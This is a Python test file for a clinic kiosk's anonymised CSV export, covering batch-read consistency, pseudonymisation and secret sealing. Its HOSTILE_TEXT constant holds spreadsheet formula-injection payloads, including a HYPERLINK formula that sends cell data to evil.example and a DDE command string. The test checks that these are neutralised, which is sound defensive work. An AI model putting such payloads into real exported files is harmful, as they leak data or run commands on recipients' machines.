"""The anonymised CSV is the same, byte for byte, however the export reads the
database: rows in order of patient, then time, then submission, each with every one
of its responses, flags, triage status and referrals, across batch boundaries.

The export reads the submissions in export order a batch at a time and looks a
batch's responses, flags, triage and referrals up together
(kiosk/clinic/exports/reading.py). Here its CSV, with batches of one, two, three and
a thousand submissions, is compared with one made by a plain reader that asks for
each submission's pieces on their own, over a clinic with two patients seen many
times at the same minutes, a submission with every form, one with no response at
all, one with no patient, and free text a spreadsheet would run."""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import json
import uuid
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from sqlalchemy import func, insert, select

from kiosk.clinic.exports import csv_rows, reading
from kiosk.clinic.exports.anonymity import ExportFacts, ExportOptions, Pseudonyms
from kiosk.clinic.exports.csv_rows import Exporter
from kiosk.clinic.exports.reading import SUBMISSION, Batch
from kiosk.clinic.imd import deciles_for
from kiosk.clinic.models import Flag, Referral, Response, Submission, Triage
from kiosk.clinic.scope import within
from kiosk.clinic.server_secrets import SecretError
from kiosk.engine.answers import PREFER_NOT

pytestmark = [pytest.mark.clinic, pytest.mark.export]
HOSTILE_TEXT = ('=HYPERLINK("http://evil.example/?d="&A1,"x")', "+1+cmd|' /C calc'!A0", "\t@SUM(1)")
STAMPS = ("2026-03-02T09:00:00+00:00", "2026-03-02T09:00:00+00:00", "2026-03-05T11:30:00+00:00")


class OneAtATime:
    """The plainest reader: each submission's responses, flags, triage and referrals
    asked for on their own, through the ORM."""

    def __init__(self, service: Any, clinics: tuple[str, ...] | None, facts: ExportFacts):
        self.service, self.clinics, self.facts = service, clinics, facts

    def batches(self) -> Iterator[Batch]:
        order = (Submission.patient_key, Submission.started_at, Submission.id)
        with self.service.transaction() as db:
            chosen = db.execute(select(*SUBMISSION).where(within(self.clinics)).order_by(*order))
            for s in chosen.all():
                sid = s[0]
                answers: dict[str, Any] = {}
                scores: dict[str, Any] = {}
                for r in db.scalars(select(Response).where(Response.submission_id == sid)):
                    opened = self.service.secrets.open(r.answers, f"responses/{sid}/{r.form_id}")
                    answers[r.form_id] = opened if isinstance(opened, dict) else {}
                    scores[r.form_id] = json.loads(r.scores)
                flags = list(db.scalars(select(Flag.flag_id).where(Flag.submission_id == sid)))
                triage = db.scalar(select(Triage.status).where(Triage.submission_id == sid))
                referrals = db.execute(
                    select(Referral.kind, Referral.outcome)
                    .where(Referral.submission_id == sid)
                    .order_by(Referral.id)
                ).all()
                postcode = self.facts.answer(answers, "home_postcode")
                wanted = [postcode] if isinstance(postcode, str) and postcode != PREFER_NOT else []
                yield Batch(
                    [tuple(s)],
                    {sid: answers},
                    {sid: scores},
                    {sid: flags},
                    {sid: triage} if triage else {},
                    {sid: [f"{kind}:{outcome}" for kind, outcome in referrals]},
                    deciles_for(db, wanted) if wanted else {},
                )


def _copies(service: Any) -> dict[str, str]:
    """Copies of the seeded submissions, re-sealed under their own ids: two patients
    seen three times each at tied minutes (the same form answered with hostile free
    text), a copy with no response and one with no patient. Returns what each is."""
    secrets = service.secrets
    made: dict[str, str] = {}
    with service.transaction() as db:
        columns = Submission.__table__.columns
        rows = [dict(r._mapping) for r in db.execute(select(*columns).order_by(Submission.id))]
        most = db.execute(
            select(Response.submission_id, func.count())
            .group_by(Response.submission_id)
            .order_by(func.count().desc(), Response.submission_id)
        ).first()
        assert most is not None and most[1] >= 4, "a submission with many forms"
        forms = db.scalars(select(Response.form_id).where(Response.submission_id == most[0]))
        assert "what_matters" in set(forms)
        template = next(r for r in rows if r["id"] == most[0])
        keys = sorted({r["patient_key"] for r in rows if r["patient_key"]})[:2]
        assert len(keys) == 2
        responses = [
            {c.name: getattr(r, c.name) for c in Response.__table__.columns if c.name != "id"}
            for r in db.scalars(select(Response).where(Response.submission_id == template["id"]))
        ]
        plans = [(key, stamp, "answered") for key in keys for stamp in STAMPS]
        plans += [(keys[0], STAMPS[0], "no response"), (None, STAMPS[2], "no patient")]
        for n, (key, stamp, what) in enumerate(plans):
            sid = uuid.uuid4().hex
            made[sid] = what
            copy = {**template, "id": sid, "patient_key": key, "started_at": stamp}
            copy.update(envelope_hash=f"copy-{sid}", identifiers=None, day=stamp[:10])
            db.execute(insert(Submission), [copy])
            if what == "no response":
                continue
            for response in responses:
                form_id = response["form_id"]
                answers = secrets.open(response["answers"], f"responses/{template['id']}/{form_id}")
                if response["form_id"] == "what_matters" and isinstance(answers, dict):
                    answers["main_concern"] = HOSTILE_TEXT[n % len(HOSTILE_TEXT)]
                sealed = secrets.seal(answers, f"responses/{sid}/{response['form_id']}")
                db.execute(
                    insert(Response), [{**response, "submission_id": sid, "answers": sealed}]
                )
            for flag in ("stable_housing", "missed_meal")[: n % 3]:
                flagged = dict(form_id="social_welfare", flag_id=flag, severity="amber")
                db.execute(insert(Flag), [dict(flagged, submission_id=sid, raised_at=stamp)])
            if n % 2:
                decided = dict(status="actioned", version=1, updated_by="user:admin")
                db.execute(insert(Triage), [dict(decided, submission_id=sid, updated_at=stamp)])
            for kind in ("welfare_rights", "social_prescribing")[: n % 3]:
                referred = dict(kind=kind, outcome="pending", version=1, created_by="user:admin")
                db.execute(
                    insert(Referral),
                    [
                        dict(referred, submission_id=sid, referred_on=stamp[:10],
                             created_at=stamp, updated_at=stamp)
                    ],
                )  # fmt: skip
    return made


def _csv(service: Any, options: ExportOptions) -> str:
    return "".join(Exporter(service, options).csv_chunks())


@pytest.fixture
def copied(make_staff_clinic: Callable[..., Any], database_url: str) -> Any:
    clinic = make_staff_clinic(database_url)
    clinic.made = _copies(clinic.service)
    return clinic


@pytest.mark.parametrize("batch", [1, 2, 3, 1000])
@pytest.mark.parametrize("free_text", [False, True])
def test_the_csv_is_the_same_however_it_is_read(
    copied: Any, monkeypatch: pytest.MonkeyPatch, batch: int, free_text: bool
) -> None:
    service = copied.service
    options = ExportOptions(
        "order-check", "the same bytes whatever the reading order",
        include_free_text=free_text, shift_dates=free_text,
    )  # fmt: skip
    monkeypatch.setattr(reading, "BATCH", batch)
    read_in_batches = _csv(service, options)
    monkeypatch.setattr(csv_rows, "BatchReader", OneAtATime)
    one_at_a_time = _csv(service, options)
    assert read_in_batches == one_at_a_time

    rows = list(csv.DictReader(io.StringIO(read_in_batches)))
    with service.transaction() as db:
        assert len(rows) == db.scalar(select(func.count()).select_from(Submission))
    # Every copy is there once, the one with no response with no answers at all.
    pseudonym = Exporter(service, options).pseudonyms.of
    by_submission = {row["submission"]: row for row in rows}
    for sid, what in copied.made.items():
        row = by_submission[pseudonym("submission", sid)]
        answered = [v for k, v in row.items() if "." in k and v != ""]
        assert (what == "no response") == (not answered), (what, row)
        assert (what == "no patient") == (row["patient"] == ""), (what, row)
    # Visits count up within each patient, in time order.
    visits: dict[str, list[int]] = {}
    for row in rows:
        if row["patient"]:
            visits.setdefault(row["patient"], []).append(int(row["visit"]))
    assert all(v == list(range(1, len(v) + 1)) for v in visits.values())
    # Hostile free text leaves only when asked, and then cannot run as a formula.
    concerns = [row.get("what_matters.main_concern", "") for row in rows]
    hostile = [c for c in concerns if "HYPERLINK" in c or "calc" in c or "SUM(1)" in c]
    assert len(hostile) == (7 if free_text else 0)
    assert all(c.startswith("'") for c in hostile)


def test_an_opener_opens_what_open_opens_and_refuses_what_it_refuses(
    make_staff_clinic: Callable[..., Any],
) -> None:
    secrets = make_staff_clinic().service.secrets
    sealed = secrets.seal({"main_concern": "Sleep", "score": 3}, "responses/s1/what_matters")
    opened = secrets.opener()
    assert opened(sealed, "responses/s1/what_matters") == secrets.open(
        sealed, "responses/s1/what_matters"
    )
    for context, value in (("responses/s2/what_matters", sealed), ("responses/s1/x", sealed[:20])):
        with pytest.raises(SecretError, match="failed its check"):
            opened(value, context)
        with pytest.raises(SecretError, match="failed its check"):
            secrets.open(value, context)


def test_a_batch_opener_opens_what_open_opens_and_names_the_value_that_fails(
    make_staff_clinic: Callable[..., Any],
) -> None:
    secrets = make_staff_clinic().service.secrets
    values = [
        {"main_concern": "Sleep", "score": 3},
        ["a", "b"],
        "\u00e9t\u00e9 \u2603",
        7,
        None,
        {},
    ]
    sealed = [
        (secrets.seal(v, f"responses/s{n}/f"), f"responses/s{n}/f") for n, v in enumerate(values)
    ]
    open_all = secrets.batch_opener()
    assert open_all(sealed) == [secrets.open(s, c) for s, c in sealed] == values
    assert open_all([]) == []
    moved = [*sealed[:2], (sealed[2][0], "responses/s9/f"), *sealed[3:]]
    with pytest.raises(SecretError, match="responses/s9/f"):
        open_all(moved)
    with pytest.raises(SecretError, match="failed its check"):
        open_all([(sealed[0][0][:20], sealed[0][1])])


@pytest.mark.parametrize("project", ["order-check", "p"])
def test_pseudonyms_are_hmac_sha256_under_the_project_key(project: str) -> None:
    export_key = bytes(range(32))
    pseudonyms = Pseudonyms(export_key, project)
    key = hmac.new(export_key, b"project:" + project.encode(), hashlib.sha256).digest()
    for kind, value in (("submission", "0" * 32), ("patient", "ab" * 32), ("x", "")):
        expected = hmac.digest(key, f"{kind}:{value}".encode(), "sha256").hex()[:16]
        assert pseudonyms.of(kind, value) == expected
    shift = hmac.digest(key, b"shift:ab", "sha256")
    assert pseudonyms.day_shift("ab") == int.from_bytes(shift[:4], "big") % 361 - 180
